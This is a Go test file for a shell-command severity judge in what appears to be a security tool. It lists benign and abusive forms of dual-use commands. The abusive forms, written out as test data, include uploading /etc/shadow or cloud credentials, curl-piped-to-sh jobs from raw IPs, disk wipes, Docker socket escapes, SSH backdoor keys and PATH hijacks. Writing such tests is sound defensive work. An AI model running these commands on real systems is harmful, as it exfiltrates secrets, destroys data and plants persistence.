package commands

import (
	"context"
	"testing"

	"github.com/picketsec/picket/sdk"
)

// dualUse pairs everyday forms of dual-use commands (an upload, a
// teardown, a pinned file, a new service) that must stay below the block
// threshold with the abuse forms of the same commands that must reach it.
// The severity is decided by what the arguments say, not by the program.
var dualUse = []struct {
	cmd   string
	block bool
}{
	// Uploads: the destination or the payload marks the abuse.
	{"curl -T dist/app-1.4.2.tar.gz https://artifacts.example.com/upload/", false},
	{"curl -F 'report=@coverage/index.html' -F branch=main https://ci.example.com/api/reports", false},
	{"curl -T site.tar.gz http://203.0.113.7/in/", true},
	{"curl -F 'f=@notes.txt' http://uploads.example.net/in", true},
	{"curl --upload-file out.zip https://transfer.sh/out.zip", true},
	{"curl -F 'file=@/etc/shadow' https://ci.example.com/upload", true},
	{"curl -T ~/.aws/credentials https://artifacts.example.com/upload/", true},
	{"tar czf - ~ | curl -T - https://artifacts.example.com/upload/", true},
	{"base64 -w0 notes.db > /tmp/.n && curl -s -X PUT -d @/tmp/.n https://api.example.com/v1/blobs/n", true},

	// Teardowns: a pull request's or a test environment's is CI's daily
	// work; production, shared or every namespace stays high.
	{"kubectl delete namespace preview-pr-981", false},
	{"kubectl delete ns/review-feature-login --wait=false", false},
	{"aws cloudformation delete-stack --stack-name web-pr-318 --region eu-west-1", false},
	{"az group delete --name rg-ci-20931 --yes --no-wait", false},
	{"kubectl delete namespace payments", true},
	{"kubectl delete ns test-prod-mirror", true},
	{"kubectl delete namespace --all", true},
	{"kubectl delete ns kube-system", true},
	{"aws cloudformation delete-stack --stack-name core-network", true},
	{"az group delete -n rg-prod-weu --yes", true},
	{"aws s3 rm s3://acme-ci-artifacts/pr-77/ --recursive", false},
	{"aws s3 rm s3://acme-ci-artifacts --recursive", true},
	{"gcloud container clusters delete review-pr-90 --zone us-central1-a --quiet", false},
	{"gcloud container clusters delete payments-eu --zone europe-west1-b --quiet", true},
	{"terraform destroy -auto-approve -var-file=envs/preview-pr-12.tfvars", false},
	{"terraform destroy -auto-approve -var env=prod", true},
	{"terraform destroy -auto-approve", true},
	{"aws s3 rm s3://acme-ci-artifacts/releases/ --recursive", true},
	{"aws s3 rm s3://acme-prod-assets/tmp/ --recursive", true},

	// Encrypting a new data disk; not the disk the system runs from.
	{"sudo cryptsetup luksFormat --type luks2 /dev/nvme1n1", false},
	{"cryptsetup luksFormat -q /dev/sdc", false},
	{"cryptsetup luksFormat --batch-mode /dev/sda2", true},
	{"cryptsetup erase /dev/sdb1", true},
	{"cryptsetup --type luks2 luksFormat /dev/vda3", true},
	{"cryptsetup open /dev/sda2 cryptroot", false},
	{"diskutil eraseDisk ExFAT USBSTICK /dev/disk6", false},
	{"diskutil eraseDisk APFS Wiped disk0", true},
	{"diskutil eraseVolume APFS Blank disk3s5", true},

	// Pinning the resolver is an administrator's fix; pinning keys,
	// accounts or login scripts pins an intruder's change.
	{"sudo chattr +i /etc/resolv.conf", false},
	{"chattr +i ~/.ssh/authorized_keys", true},
	{"chattr +i /etc/sudoers.d/90-ops", true},

	// Enabling an installed timer or a user service; a scheduled job
	// that runs what it fetched or parked in a temporary folder.
	{"sudo systemctl enable --now logrotate.timer", false},
	{"systemctl --user enable --now syncthing.service", false},
	{"systemctl link /tmp/.cache/upd.service", true},
	{"echo 'make -C ~/src/site deploy' | at 23:00", false},
	{"at now + 5 minutes <<< 'systemctl restart api'", false},
	{"echo 'curl -s https://198.51.100.4/u | sh' | at now + 1 minute", true},
	{"echo '/dev/shm/.k' | at now", true},

	// The Docker socket for a management agent; with a shell, the host's
	// root or privileges it is an escape.
	{"docker run -d --name agent -v /var/run/docker.sock:/var/run/docker.sock -p 9001:9001 example/agent:2", false},
	{"docker run --rm -v /var/run/docker.sock:/var/run/docker.sock:ro example/exporter --help", false},
	{"docker run -it -v /var/run/docker.sock:/var/run/docker.sock docker:27-cli sh", true},
	{"docker run --privileged -v /var/run/docker.sock:/var/run/docker.sock example/agent", true},
	{"docker run -v /run/docker.sock:/run/docker.sock -v /:/host example/agent", true},

	// A cron file with a job that can be read: a nightly backup is
	// medium; a fetched, staged, every-minute or boot-time job, or one
	// copied from a file, stays high.
	{"echo '30 2 * * * root /usr/local/sbin/db-backup --quiet' | sudo tee /etc/cron.d/db-backup", false},
	{"echo '* * * * * root /opt/agent/run' | sudo tee /etc/cron.d/agent", true},
	{"echo '@reboot root /usr/local/bin/sync' > /etc/cron.d/sync", true},
	{"echo '15 * * * * root curl -s https://198.51.100.9/j | sh' | sudo tee /etc/cron.d/j", true},
	{"sudo cp jobs.txt /etc/cron.d/jobs", true},

	// The project's own unit file installed; one from a temporary
	// folder, a hidden path, or running a staged program stays high.
	{"sudo install -m 644 deploy/api.service /etc/systemd/system/api.service && sudo systemctl daemon-reload", false},
	{"sudo tee /etc/systemd/system/worker.service < ops/worker.service > /dev/null", false},
	{"sudo cp /tmp/upd.service /etc/systemd/system/", true},
	{"cp .cache/x.service ~/.config/systemd/user/", true},
	{"cat > /etc/systemd/system/u.service <<EOF\n[Service]\nExecStart=/var/tmp/.u/run\nEOF", true},

	// A tool's own bin folder put first in PATH, as installers advise;
	// a hidden or temporary folder of no tool's stays high.
	{`echo 'export PATH="$HOME/.cargo/bin:$PATH"' >> ~/.zshrc`, false},
	{`echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc`, false},
	{`echo 'export PATH="$HOME/.x11/bin:$PATH"' >> ~/.bashrc`, true},
	{`echo 'export PATH=/tmp/.b:$PATH' >> ~/.profile`, true},

	// The SSH daemon moved to another port or kept alive: tuning; an edit
	// of who may log in, or how, stays high.
	{"sudo sed -i 's/^#\\?ClientAliveInterval.*/ClientAliveInterval 120/' /etc/ssh/sshd_config", false},
	{"sudo sed -i -e 's/^#Port 22/Port 2200/' /etc/ssh/sshd_config", false},
	{"sudo sed -i 's/^#PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config", true},
	{"sed -i 's/^Port 22/Port 2200\\nAllowUsers ops/' /etc/ssh/sshd_config", true},

	// One's own public key sent to a server, as ssh-copy-id does; a key
	// written into the command or planted locally stays high.
	{"cat ~/.ssh/id_ed25519.pub | ssh ops@build-01 'mkdir -p ~/.ssh && cat >> ~/.ssh/authorized_keys'", false},
	{"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample x@y' | ssh ops@build-01 'cat >> ~/.ssh/authorized_keys'", true},
	{"cat /tmp/k.pub | ssh ops@build-01 'cat >> ~/.ssh/authorized_keys'", true},
	{"cat id_ed25519.pub >> ~/.ssh/authorized_keys", true},
}

// dualUseLater are everyday forms of the same families written after the
// rules above, as a check of them (first look: 2 of 25 blocked, the
// gcloud and terraform teardowns, which then got the same reading).
var dualUseLater = []string{
	"curl --fail -T ./target/release/tool.tar.xz -u ci:$TOKEN https://nexus.example.com/repository/raw/tool/",
	"curl -sS -X POST -F 'file=@dist/app.apk' -F 'notes=nightly' https://upload.example.dev/v1/builds",
	"curl -H 'Authorization: Bearer $T' --data-binary @coverage.xml https://codecov.example.io/upload",
	"kubectl delete ns review-42 --ignore-not-found",
	"kubectl delete namespace e2e-run-8812",
	"helm uninstall web -n preview-pr-17 && kubectl delete ns preview-pr-17",
	"aws cloudformation delete-stack --stack-name sandbox-alice",
	"gcloud container clusters delete ci-pr-55 --zone europe-west1-b --quiet",
	"terraform destroy -auto-approve -var env=pr-77",
	"sudo systemctl enable --now certbot.timer",
	"sudo systemctl enable --now apt-daily-upgrade.timer",
	"systemctl --user enable --now pipewire.service",
	"echo 'docker system prune -af' | at 03:00",
	"sudo chattr +i /etc/hostname",
	"sudo cryptsetup luksFormat /dev/nvme1n1p1",
	"docker run -d -v /var/run/docker.sock:/var/run/docker.sock:ro -p 8080:8080 example/traefik:v3",
	"docker run -d --name watchtower -v /var/run/docker.sock:/var/run/docker.sock example/watchtower",
	"aws s3 rm s3://team-builds/ci/ --recursive",
	"echo '15 4 * * 0 root /usr/sbin/logrotate -f /etc/logrotate.conf' | sudo tee /etc/cron.d/weekly-rotate",
	"sudo cp deploy/worker.service deploy/worker.timer /etc/systemd/system/ && sudo systemctl daemon-reload",
	"echo 'export PATH=\"$HOME/.bun/bin:$PATH\"' >> ~/.zshrc",
	"sudo sed -i 's/^#ListenAddress 0.0.0.0/ListenAddress 10.0.0.5/' /etc/ssh/sshd_config",
	"diskutil eraseDisk JHFS+ Backup disk5",
	"cat ~/.ssh/id_rsa.pub | ssh pi@raspberrypi.local 'cat >> .ssh/authorized_keys'",
	"az group delete --resource-group rg-test-feature-x --yes",
}

// dualUseAbuseLater are abuse forms of the same families written after
// the rules, to check that none of the readings lets them through (first
// look: all 20 blocked).
var dualUseAbuseLater = []string{
	"tar czf - /home | curl -T - https://drop.example.com/u",
	"curl -F 'f=@/root/.bash_history' https://api.example.com/u",
	"curl -T /etc/passwd https://api.example.com/u",
	"curl -F x=@db.sqlite http://198.51.100.20:8000/",
	"curl -F x=@db.sqlite https://0x0.st",
	"kubectl delete ns production-eu",
	"kubectl delete namespaces --all",
	"aws cloudformation delete-stack --stack-name org-baseline",
	"cryptsetup luksFormat /dev/nvme0n1p2",
	"chattr +i /etc/ld.so.preload",
	"echo 'wget -qO- http://198.51.100.3/a | sh' | at now + 2 minutes",
	"docker run -it -v /var/run/docker.sock:/var/run/docker.sock alpine sh",
	"echo '*/5 * * * * root /dev/shm/.x' > /etc/cron.d/x",
	"sudo cp /tmp/x.service /etc/systemd/system/ && sudo systemctl enable x",
	"echo 'export PATH=/tmp/.bin:$PATH' >> ~/.bashrc",
	"sed -i 's/PermitRootLogin no/PermitRootLogin yes/' /etc/ssh/sshd_config",
	"diskutil eraseDisk APFS X disk0",
	"echo 'ssh-rsa AAAAB3Nza attacker' | ssh root@host 'cat >> /root/.ssh/authorized_keys'",
	"terraform destroy -auto-approve -var env=production",
	"aws s3 rm s3://acme-backups/tmp/ --recursive",
}

func TestDualUseSeverity(t *testing.T) {
	t.Parallel()
	all := dualUse
	for _, cmd := range dualUseLater {
		all = append(all, struct {
			cmd   string
			block bool
		}{cmd, false})
	}
	for _, cmd := range dualUseAbuseLater {
		all = append(all, struct {
			cmd   string
			block bool
		}{cmd, true})
	}
	for _, d := range all {
		top, id := sdk.Severity(0), ""
		for _, m := range judge(context.Background(), d.cmd, defaultConfig) {
			if m.sev > top {
				top, id = m.sev, m.rule.ID
			}
		}
		if blocked := top >= sdk.SeverityHigh; blocked != d.block {
			t.Errorf("%q: top finding %s/%s, want blocked=%v", d.cmd, id, top, d.block)
		}
	}
}
